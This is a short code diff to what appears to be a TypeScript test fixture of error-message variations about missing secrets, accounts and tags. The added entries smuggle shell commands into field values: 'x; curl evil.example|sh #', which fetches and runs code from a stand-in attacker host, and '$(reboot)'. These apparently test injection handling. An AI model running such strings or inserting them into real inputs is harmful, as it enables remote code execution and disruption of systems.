@@ -52,6 +52,9 @@ const others = 'secret/shop/old was refused with 401'
 /** What else may be known, and changes a sentence. */
 const variations: readonly (readonly [CauseId, Readonly<Record<string, unknown>>])[] = [
   ['secret-absent', { account: 'cashier' }],
+  ['secret-absent', { secret: 'x; curl evil.example|sh #' }],
+  ['secret-unverified', { secret: 'x; curl evil.example|sh #' }],
+  ['service-account-absent', { account: '$(reboot)' }],
   ['tag-absent', { suggestions: ['v2.1.2', 'v2.1.4'], others }],
   ['tag-absent', { tag: 'latest' }],
   ['tag-absent', { tag: 'latest', suggestions: ['v2.1.4'] }],
